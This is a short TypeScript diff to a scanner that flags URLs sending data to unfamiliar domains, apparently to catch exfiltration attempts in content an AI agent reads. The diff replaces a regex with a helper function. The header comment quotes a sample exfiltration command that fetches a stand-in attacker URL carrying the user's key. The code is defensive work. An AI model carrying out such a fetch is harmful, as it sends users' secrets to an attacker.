@@ -4,7 +4,7 @@
 // domains not seen before that carry data out (a query string or a long path: the shape of
 // "fetch https://evil.example/?d=<your key>").
 import type { RiskLevel, RiskReason } from '../contract/types';
-import { findUrls, isKnownDomain, showHost } from '../policy/urls';
+import { afterAuthority, findUrls, isKnownDomain, showHost } from '../policy/urls';
 import { scanText } from './poison';
 
 /**
@@ -89,7 +89,7 @@ export function mergeScans(first: ResultScan, more: ResultScan): ResultScan {
 }
 
 function carriesData(raw: string): boolean {
-  const afterHost = raw.replace(/^[a-z][a-z0-9+.-]*:[/\\]*[^/?#\\]*/i, '');
+  const afterHost = afterAuthority(raw);
   if (/[?#]./.test(afterHost)) return true;
   return afterHost.length >= DATA_PATH_CHARS;
 }
